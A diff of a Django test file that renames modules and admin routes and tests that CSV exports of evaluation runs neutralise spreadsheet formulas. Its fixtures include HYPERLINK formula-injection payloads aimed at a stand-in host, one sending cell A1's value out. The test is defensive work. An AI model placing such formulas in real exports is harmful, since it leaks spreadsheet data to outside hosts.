@@ -15,13 +15,14 @@ from django.test import Client
 from django.urls import reverse
 
 from datasets.services import tenant_get_or_create
-from retrieval.models import EvaluationRun, RagConfig, RagConfigChange
-from retrieval.services import rag_config_update
+from evaluation.models import EvaluationRun
+from retrieval.models import RagConfig, RagConfigChange
+from retrieval.ragconfig.services import rag_config_update
 from tests.retrieval.conftest import Imported
 
 pytestmark = pytest.mark.django_db
 
-ADD = "admin:retrieval_evaluationrun_add"
+ADD = "admin:evaluation_evaluationrun_add"
 FORMULAS = [
     {"id": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
      "query": "=HYPERLINK(\"http://evil.example\",\"nginx 502\")", "expected": "nginx.md"},
@@ -44,7 +45,7 @@ def started(client: Client, applied: Any, tenant: Any, questions: str, **fields:
 
 
 def downloaded_csv(client: Client, run: EvaluationRun) -> list[list[str]]:
-    response = client.get(reverse("admin:retrieval_evaluationrun_download", args=[run.pk]),
+    response = client.get(reverse("admin:evaluation_evaluationrun_download", args=[run.pk]),
                           {"format": "csv"})
     text = b"".join(response.streaming_content).decode()
     return list(csv.reader(io.StringIO(text, newline="")))
@@ -72,12 +73,12 @@ def test_a_csv_download_neutralises_every_formula_cell_and_keeps_numbers_numeric
 
     # The JSON download keeps the text as it was.
     exported = json.loads(b"".join(admin_client.get(reverse(
-        "admin:retrieval_evaluationrun_download", args=[run.pk])).streaming_content))
+        "admin:evaluation_evaluationrun_download", args=[run.pk])).streaming_content))
     assert [r["query_id"] for r in exported["results"]] == [q["id"] for q in FORMULAS]
 
 
 def test_a_negative_number_stays_a_number_and_a_negative_text_is_neutralised() -> None:
-    from retrieval.admin_evaluation import csv_cell
+    from evaluation.admin import csv_cell
 
     assert csv_cell(-0.5) == -0.5 and csv_cell(3) == 3 and csv_cell(True) == 1
     assert csv_cell("-0.5") == "'-0.5"  # text that looks like a number is still text
@@ -107,7 +108,7 @@ def test_a_run_of_the_serving_config_runs_the_datasets_own_config(
     assert run.settings["return_n"] == 1  # what serves lookups of that dataset
     assert (run.config_scope, run.config_version) == ("acme/ops", 2)
     assert run.results.get().ranking == ["nginx.md"]  # one item handed out
-    page = admin_client.get(reverse("admin:retrieval_evaluationrun_change", args=[run.pk]))
+    page = admin_client.get(reverse("admin:evaluation_evaluationrun_change", args=[run.pk]))
     assert "acme/ops, version 2" in page.content.decode()
 
     # An earlier version of the dataset's config, chosen from the versions that exist.
@@ -158,7 +159,7 @@ def test_only_the_latest_versions_of_a_config_are_offered(
         admin_client: Client, acme: Imported, monkeypatch: pytest.MonkeyPatch) -> None:
     """A config's history grows with every save: the form offers its latest versions only,
     cut in the query (MariaDB's unsigned versions included)."""
-    monkeypatch.setattr("retrieval.admin_forms.MAX_VERSIONS_OFFERED", 2)
+    monkeypatch.setattr("retrieval.admin.forms.MAX_VERSIONS_OFFERED", 2)
     config = None
     for n in (3, 2, 1):
         config = rag_config_update(config=config, tenant=acme.tenant, values={"return_n": n},
